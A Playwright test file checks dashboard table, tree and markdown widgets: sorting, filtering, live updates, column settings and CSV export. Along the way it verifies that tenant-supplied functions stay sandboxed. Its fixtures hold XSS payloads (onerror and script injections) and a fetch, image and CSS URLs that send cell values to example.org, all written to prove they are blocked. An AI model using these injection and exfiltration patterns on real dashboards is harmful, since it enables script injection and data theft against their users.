// Tables of dashboards: paged and live, with functions of tenants for cells, rows and actions that can harm nobody.

import { findings } from "./axe";
import { expect, logIn, test, type Program } from "./program";

const IMG = "<img src=x onerror=top.hacked=1>";
const KEY = { name: "level", type: "timeseries", label: "Level", units: "%", decimals: 1, settings: {} };

/** Shows a value as bold text, and tries all that it must not. */
const CONTENT = `try { top.hacked = 1; } catch (error) {}
  try { fetch("https://example.org/?" + value).catch(() => 0); } catch (error) {}
  return "<b class='made'>" + ctx.utils.formatValue(value, 0, "mm") + " of " + entity.entityName.length + "</b><img src='https://example.org/?" + value + "'><img src=x onerror='top.hacked=1'><script>top.hacked=1</script>";`;
const STYLE = `return { color: value > 10 ? "rgb(200, 0, 0)" : "rgb(0, 120, 0)", position: "fixed", background: "url(https://example.org/?" + value + ")" };`;

function table(fqn: string, title: string, dataKeys: object[], settings: object = {}, actions: object = {}, more: object = {}): object {
  return { typeFullFqn: `system.${fqn}`, sizeX: 24, sizeY: 8, config: { title, showTitle: true, settings, actions, datasources: [{ type: "entity", entityAliasId: "all", dataKeys, ...more }] } };
}

async function board(program: Program, title: string, widgets: Record<string, object>, filter: object, states: object = {}): Promise<string> {
  const places = Object.fromEntries(Object.keys(widgets).map((id, n) => [id, { col: 0, row: n * 8, sizeX: 24, sizeY: 8 }]));
  const configuration = {
    widgets,
    states: { default: { name: "All", root: true, layouts: { main: { widgets: places, gridSettings: { columns: 24 } } } }, ...states },
    entityAliases: { all: { id: "all", alias: "All", filter: { resolveMultiple: true, ...filter } }, chosen: { id: "chosen", alias: "Chosen", filter: { type: "stateEntity" } } },
    timewindow: { selectedTab: 0, realtime: { timewindowMs: 300_000, interval: 1_000 }, aggregation: { type: "NONE", limit: 1_000 } },
  };
  const saved = await program.call<{ id: { id: string } }>("TENANT_ADMIN", "/api/dashboard", { title, configuration });
  return `/dashboards/${saved.id.id}`;
}

async function device(program: Program, name: string, values: object): Promise<string> {
  const made = await program.call<{ id: { id: string } }>("TENANT_ADMIN", "/api/device", { name, type: "tabled" });
  const { credentialsId } = await program.call<{ credentialsId: string }>("TENANT_ADMIN", `/api/device/${made.id.id}/credentials`);
  await program.send(credentialsId, { ...values });
  return credentialsId;
}

test("a table of entities lives, sorts, narrows, and its functions stay in their sandbox", async ({ page, program }) => {
  await page.setViewportSize({ width: 1300, height: 900 });
  const token = await device(program, `Tabled ${IMG}`, { level: 4, note: IMG });
  await device(program, "Tabled B", { level: 25, note: "plain" });
  await device(program, "Tabled C", { level: 12, note: "plain" });
  const outside: string[] = [];
  page.on("request", (request) => request.url().startsWith("https://example.org") && outside.push(request.url()));
  const made = { ...KEY, label: "Made", settings: { useCellContentFunction: true, cellContentFunction: CONTENT, useCellStyleFunction: true, cellStyleFunction: STYLE } };
  const open = { name: "More", icon: "more_horiz", type: "openDashboardState", targetDashboardStateId: "one", setEntityId: true, openInSeparateDialog: true, dialogTitle: "One", useShowWidgetActionFunction: true, showWidgetActionFunction: "return data.Level > 10;" };
  const path = await board(
    program,
    "Entities",
    {
      t: table("cards.entities_table", "Table", [KEY, { ...KEY, name: "note", label: "Note", units: "" }, made], { defaultSortOrder: "-Level", useRowStyleFunction: true, rowStyleFunction: "return { fontWeight: entity.Level > 20 ? 700 : 400 };" }, { actionCellButton: [open] }),
      v: { typeFullFqn: "system.cards.simple_card", config: { title: "${entityName}", settings: {}, datasources: [{ type: "entity", entityAliasId: "chosen", dataKeys: [KEY] }] } },
    },
    { type: "deviceType", deviceTypes: ["tabled"], deviceNameFilter: "" },
    { one: { name: "${entityName}", layouts: { main: { widgets: { v: { col: 0, row: 0, sizeX: 24, sizeY: 8 } }, gridSettings: {} } } } },
  );
  await logIn(page, program, "TENANT_ADMIN", path);
  const region = page.getByRole("region", { name: "Table" });
  const rows = region.locator("tbody tr[data-row]");
  await expect(rows).toHaveCount(3);
  await expect(rows.nth(0)).toContainText("Tabled B");
  await expect(rows.nth(2)).toContainText(`Tabled ${IMG}`);
  await expect(rows.nth(2)).toContainText("4 %");
  // The made cell: cleaned, coloured, and told from what it tried.
  await expect(rows.nth(0).locator("b.made")).toHaveText("25 mm of 8");
  await expect(rows.nth(0).locator("td").nth(3)).toHaveCSS("color", "rgb(200, 0, 0)");
  await expect(rows.nth(0).locator("td").nth(3)).toHaveCSS("position", "static");
  await expect(rows.nth(0)).toHaveCSS("font-weight", "700");
  await expect(rows.nth(2).locator("td").nth(3)).toHaveCSS("color", "rgb(0, 120, 0)");
  await expect(region.locator("script, img[src^='https'], img[onerror]")).toHaveCount(0);
  // Actions of rows are there where their function says so.
  await expect(rows.nth(0).getByRole("button", { name: "More" })).toBeVisible();
  await expect(rows.nth(2).getByRole("button", { name: "More" })).toHaveCount(0);
  await program.send(token, { level: 31 });
  await expect(rows.filter({ hasText: IMG })).toContainText("31 %");
  await page.screenshot({ path: "test-results/screens/table_entities.png" });
  await rows.filter({ hasText: "Tabled B" }).getByRole("button", { name: "More" }).click();
  await expect(page.getByRole("dialog", { name: "One" }).getByRole("region", { name: "Tabled B" }).locator("[data-value]")).toHaveText("25 %");
  await page.keyboard.press("Escape");
  // Sorting, search and column filters ask the server.
  await region.getByRole("button", { name: "Level" }).first().click();
  await expect(rows.nth(0)).toContainText("Tabled C");
  const menu = region.getByRole("button", { name: "Columns, filters, file" });
  await menu.click();
  await page.getByLabel("Filters above the columns").check();
  await page.keyboard.press("Escape");
  await region.getByLabel("Filter of Level", { exact: true }).fill(">20");
  await expect(rows).toHaveCount(2);
  await menu.click();
  await page.getByLabel("Filters above the columns").uncheck();
  await page.keyboard.press("Escape");
  await region.getByLabel("Search").fill("Tabled B");
  await expect(rows).toHaveCount(1);
  await region.getByLabel("Search").fill("");
  // Columns: hidden ones stay hidden, widths stay.
  await menu.click();
  await page.getByLabel("Note", { exact: true }).uncheck();
  await page.getByRole("button", { name: "Level: wider" }).click();
  await page.keyboard.press("Escape");
  await expect(region.locator("col").nth(1)).toHaveCSS("width", "184px");
  await page.reload();
  await expect(rows).toHaveCount(3);
  await expect(region.getByRole("columnheader", { name: /Note/ })).toHaveCount(0);
  const saving = page.waitForEvent("download");
  await menu.click();
  await page.getByRole("button", { name: "Save as CSV" }).click();
  expect((await saving).suggestedFilename()).toBe("Table.csv");
  expect(await page.evaluate(() => "hacked" in window)).toBe(false);
  expect(outside).toEqual([]);
});

test("a table over time and a list of thousands of rows", async ({ page, program }) => {
  test.setTimeout(120_000);
  await page.setViewportSize({ width: 1300, height: 1100 });
  const token = await device(program, "Course", { level: 1, note: IMG });
  await program.send(token, { level: 2 });
  const file = Array.from({ length: 3_000 }, (_, n) => `Long ${String(n).padStart(5, "0")}`).join("\n");
  await program.call("TENANT_ADMIN", "/api/asset/bulk_import", { file, mapping: { columns: [{ type: "NAME" }], delimiter: ",", update: true, header: false } });
  const over = table("cards.timeseries_table", "Over time", [KEY, { ...KEY, name: "note", label: "Note", units: "", settings: { useCellContentFunction: true, cellContentFunction: "return value ? '<i>' + value + '</i>' : '–';" } }], { displayPagination: false });
  const long = table("cards.entities_table", "Long", [], { displayPagination: false }, {}, { entityAliasId: "assets" });
  const path = await board(program, "Long", { o: over, l: long }, { type: "entityName", entityType: "DEVICE", entityNameFilter: "Course" });
  const id = path.split("/").at(-1) ?? "";
  const stored = await program.call<{ configuration: { entityAliases: Record<string, object> } }>("TENANT_ADMIN", `/api/dashboard/${id}`);
  stored.configuration.entityAliases["assets"] = { id: "assets", alias: "Assets", filter: { type: "entityName", entityType: "ASSET", entityNameFilter: "Long", resolveMultiple: true } };
  await program.call("TENANT_ADMIN", "/api/dashboard", stored);
  await logIn(page, program, "TENANT_ADMIN", path);
  const time = page.getByRole("region", { name: "Over time" });
  await expect(time.locator("tbody tr[data-row]")).toHaveCount(2);
  await expect(time.locator("tbody tr[data-row]").nth(0)).toContainText("2 %");
  await program.send(token, { level: 3 });
  await expect(time.locator("tbody tr[data-row]").nth(0)).toContainText("3 %");
  const list = page.getByRole("region", { name: "Long" });
  await expect(list).toContainText("3,000 in all");
  await list.locator("table").evaluate((element) => element.parentElement?.scrollTo({ top: element.parentElement.scrollHeight }));
  await expect(list.getByText("Long 02999")).toBeVisible();
  // What is drawn is what is in view, however long the list is.
  expect(await list.locator("tbody tr[data-row]").count()).toBeLessThan(80);
  expect(await page.evaluate(() => "hacked" in window)).toBe(false);
  await page.screenshot({ path: "test-results/screens/table_long.png" });
});

test("a tree by relations, text made by a function, and devices that are added, changed and deleted", async ({ page, program }) => {
  test.setTimeout(120_000);
  await page.setViewportSize({ width: 1300, height: 1500 });
  const outside: string[] = [];
  page.on("request", (request) => request.url().startsWith("https://example.org") && outside.push(request.url()));
  const asset = (await program.call<{ id: { id: string } }>("TENANT_ADMIN", "/api/asset", { name: `Plant ${IMG}`, type: "plant" })).id;
  const made = await program.call<{ id: { id: string } }>("TENANT_ADMIN", "/api/device", { name: "Motor B", type: "managed" });
  const other = await program.call<{ id: { id: string } }>("TENANT_ADMIN", "/api/device", { name: "Motor A", type: "managed" });
  for (const to of [made.id, other.id]) {
    await fetch(`${program.url}/api/relation`, { method: "POST", headers: { "X-Authorization": `Bearer ${await program.token("TENANT_ADMIN")}`, "Content-Type": "application/json" }, body: JSON.stringify({ from: asset, to, type: "Contains", typeGroup: "COMMON" }) });
  }
  const widgets = {
    h: table(
      "cards.entities_hierarchy",
      "Tree",
      [],
      {
        nodeTextFunction: "return nodeCtx.level === 1 ? '<b class=\"top\">' + nodeCtx.entity.id.entityType + '</b><img src=x onerror=top.hacked=1>' : nodeCtx.entity.name;",
        nodesSortFunction: "return nodeCtx2.entity.name.localeCompare(nodeCtx1.entity.name);",
        nodeHasChildrenFunction: "return nodeCtx.entity.id.entityType === 'ASSET';",
      },
      { nodeSelected: [{ name: "go", type: "updateDashboardState", targetDashboardStateId: "default", setEntityId: true }] },
    ),
    m: table(
      "cards.markdown_card",
      "Made",
      [{ name: "name", type: "entityField", label: "Name", settings: {} }],
      { useMarkdownTextFunction: true, markdownTextFunction: "return '# ' + data.length + ' of ' + data[0].entityType + '\\n<b id=\"More\">more</b><img src=\"https://example.org/?' + data[0].entityName + '\"><script>top.hacked=1</script>';" },
      { elementClick: [{ name: "More", type: "openDashboardState", targetDashboardStateId: "two", setEntityId: true }] },
    ),
    a: table("entity_admin_widgets.device_admin_table", "Managed", [{ name: "type", type: "entityField", label: "Type", settings: {} }], {}, {}, { entityAliasId: "managed" }),
  };
  const path = await board(program, "Tree", widgets, { type: "assetType", assetTypes: ["plant"], assetNameFilter: "" }, { two: { name: "Two of ${entityName}", layouts: { main: { widgets: {}, gridSettings: {} } } } });
  const stored = await program.call<{ configuration: { entityAliases: Record<string, object> } }>("TENANT_ADMIN", `/api/dashboard/${path.split("/").at(-1) ?? ""}`);
  stored.configuration.entityAliases["managed"] = { id: "managed", alias: "Managed", filter: { type: "deviceType", deviceTypes: ["managed", "default"], deviceNameFilter: "Motor", resolveMultiple: true } };
  await program.call("TENANT_ADMIN", "/api/dashboard", stored);
  await logIn(page, program, "TENANT_ADMIN", path);

  const tree = page.getByRole("region", { name: "Tree" }).getByRole("tree");
  await expect(tree.locator("b.top")).toHaveText("ASSET");
  await expect(tree.getByRole("treeitem", { level: 2 })).toHaveCount(2);
  await expect(tree.getByRole("treeitem", { level: 2 }).nth(0)).toContainText("Motor B");
  await tree.getByRole("treeitem", { level: 1 }).focus();
  await page.keyboard.press("ArrowDown");
  await page.keyboard.press("Enter");
  await expect(page).toHaveURL(/state=/);

  const text = page.getByRole("region", { name: "Made" });
  await expect(text.getByRole("heading", { name: "1 of ASSET" })).toBeVisible();
  await expect(text.locator("img[src^=https]")).toHaveCount(0);

  const managed = page.getByRole("region", { name: "Managed" });
  await expect(managed.locator("tbody tr[data-row]")).toHaveCount(2);
  await managed.getByRole("button", { name: "Add", exact: true }).click();
  await page.getByRole("dialog").getByLabel("Name").fill("Motor C");
  await page.getByRole("dialog").getByRole("button", { name: "Add", exact: true }).click();
  await expect(managed).toContainText("Motor C");
  await managed.getByRole("button", { name: "Change Motor C" }).click();
  await page.getByRole("dialog").getByLabel("Name").first().fill("Motor D");
  await page.getByRole("dialog").getByRole("button", { name: "Save" }).click();
  await expect(managed).toContainText("Motor D");
  await managed.getByRole("button", { name: "Delete Motor D" }).click();
  await page.getByRole("dialog").getByRole("button", { name: "Delete" }).click();
  await expect(managed).not.toContainText("Motor D");
  await page.screenshot({ path: "test-results/screens/tree.png" });
  await page.emulateMedia({ colorScheme: "dark", reducedMotion: "reduce" });
  await page.screenshot({ path: "test-results/screens/tree_dark.png" });
  expect(await findings(page)).toEqual([]);

  await text.locator("#More").click();
  await expect(page.getByRole("button", { name: `Two of Plant ${IMG}` })).toBeVisible();
  expect(await page.evaluate(() => "hacked" in window)).toBe(false);
  expect(outside).toEqual([]);
});
